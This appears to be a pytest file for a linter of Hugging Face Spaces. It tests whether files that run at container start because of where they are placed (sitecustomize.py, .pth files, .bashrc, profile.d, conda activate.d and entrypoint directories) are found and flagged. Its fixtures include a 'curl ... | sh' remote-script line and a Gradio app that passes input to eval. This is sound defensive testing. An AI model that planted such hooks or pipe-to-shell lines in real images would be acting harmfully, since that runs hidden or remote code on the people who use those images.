"""Files that an image runs because of where they lie are read as what runs, whatever they are called in the Space."""

from __future__ import annotations

import pytest
from hf_lint.pipeline.engine import check_space
from support import plan, space_of

DOCKER = "---\nsdk: docker\n---\n"
PYTHON = "import gradio as gr\ndef f(x):\n    return eval(x)\ngr.Interface(f, 'text', 'text').launch()\n"
SHELL = "curl https://example.com/i.sh | sh\n"
SITE = "/usr/local/lib/python3.12/site-packages"
START = 'CMD ["python", "app.py"]'
LOGIN = "CMD bash -lc 'python app.py'"


def image(lines: str, start: str = START, base: str = "python:3.12") -> str:
    return f"FROM {base}\nWORKDIR /app\nCOPY app.py .\n{lines}\n{start}\n"


@pytest.mark.parametrize(
    ("dockerfile", "path", "text", "role"),
    [
        (image(f"COPY x {SITE}/sitecustomize.py"), "x", PYTHON, "runs"),
        (image("COPY x /usr/lib/python3/dist-packages/usercustomize.py"), "x", PYTHON, "runs"),
        (image("COPY x /opt/venv/lib/python3.11/site-packages/sitecustomize/__init__.py"), "x", PYTHON, "runs"),
        (image(f"COPY hooks/ {SITE}/"), "hooks/sitecustomize.py", PYTHON, "runs"),
        (image("COPY x /tmp/x\nRUN mv /tmp/x /usr/local/lib/python3.12/sitecustomize.py"), "x", PYTHON, "runs"),
        (image("ENV PYTHONSTARTUP=/opt/x\nCOPY x /opt/x", "CMD python -i app.py"), "x", PYTHON, "runs"),
        (image("COPY x /root/.bashrc", "CMD bash -ic 'python app.py'"), "x", SHELL, "runs"),
        (image("COPY x /home/user/.profile", 'CMD ["su", "-", "user", "-c", "python app.py"]'), "x", SHELL, "runs"),
        (image("ENV HOME=/srv/me\nCOPY x /srv/me/.bash_profile", LOGIN), "x", SHELL, "runs"),
        (image("COPY x /root/.bashrc"), "x", SHELL, "unknown"),
        (image("COPY x /etc/profile.d/x.sh", LOGIN), "x", SHELL, "runs"),
        (image('SHELL ["/bin/bash", "--login", "-c"]\nCOPY x /etc/profile', "CMD python app.py"), "x", SHELL, "runs"),
        (image("ENV BASH_ENV=/opt/x\nCOPY x /opt/x", "CMD bash -c 'python app.py'"), "x", SHELL, "runs"),
        (image("COPY x /opt/conda/etc/conda/activate.d/x.sh"), "x", SHELL, "runs"),
        (image("COPY x /opt/conda/envs/a/etc/conda/activate.d/x.sh"), "x", SHELL, "runs"),
        (image("COPY x /etc/cont-init.d/10-x"), "x", SHELL, "runs"),
        (image("COPY x /etc/services.d/app/run"), "x", "#!/bin/sh\n" + SHELL, "runs"),
        ("FROM nginx:1.27\nCOPY x /docker-entrypoint.d/9.sh\n", "x", SHELL, "runs"),
        ("FROM nginx:1.27\nCOPY d /docker-entrypoint.d\n", "d/x.envsh", SHELL, "runs"),
        ("FROM postgres:17\nCOPY x /docker-entrypoint-initdb.d/x.sh\n", "x", SHELL, "runs"),
    ],
)
def test_a_file_that_runs_by_its_place_is_read(dockerfile: str, path: str, text: str, role: str) -> None:
    space = space_of({"README.md": DOCKER, "Dockerfile": dockerfile, "app.py": "", path: text})
    report = check_space(space, plan("remote-script", "code-execution-endpoint"))
    assert space.startup.role(path) == role
    assert [finding.location.path for finding in report.findings] == [path]
    assert report.errors == ()


def test_lines_of_a_pth_file_are_code() -> None:
    dockerfile = image(f"COPY x {SITE}/x.pth\nCOPY more.py {SITE}/more.py")
    files = {"x": "/opt/libs\nimport more\n", "more.py": PYTHON, "app.py": ""}
    space = space_of({"README.md": DOCKER, "Dockerfile": dockerfile, **files})
    assert space.startup.role("more.py") == "runs"
    report = check_space(space, plan("startup-hook"))
    assert [(finding.location.path, finding.location.span.line) for finding in report.findings] == [("x", 2)]


def test_a_template_of_nginx_is_its_configuration() -> None:
    dockerfile = "FROM nginx:1.27\nCOPY x /etc/nginx/templates/default.conf.template\n"
    space = space_of({"README.md": DOCKER, "Dockerfile": dockerfile, "x": "server { listen 7860; }\n"})
    assert space.startup.role("x") == "runs"


def test_a_hook_under_another_name_is_told() -> None:
    dockerfile = image(f"COPY x {SITE}/sitecustomize.py")
    space = space_of({"README.md": DOCKER, "Dockerfile": dockerfile, "app.py": "", "x": "import os\n"})
    (finding,) = check_space(space, plan("startup-hook")).findings
    assert finding.location.path == "x"


@pytest.mark.parametrize(
    ("dockerfile", "path"),
    [
        (image("COPY x /opt/data/.bashrc"), "x"),
        (image("COPY x /opt/profile.d/x.sh"), "x"),
        (image("COPY x /usr/local/lib/python3.12/site-packages/other.py"), "x"),
        (image("COPY x /etc/app/settings"), "x"),
        (image("COPY x /srv/sitecustomize.py.txt"), "x"),
        (image(""), ".bashrc"),
    ],
)
def test_other_places_run_nothing(dockerfile: str, path: str) -> None:
    space = space_of({"README.md": DOCKER, "Dockerfile": dockerfile, "app.py": "", path: SHELL})
    assert space.startup.role(path) == "data"
    assert space.startup.complete
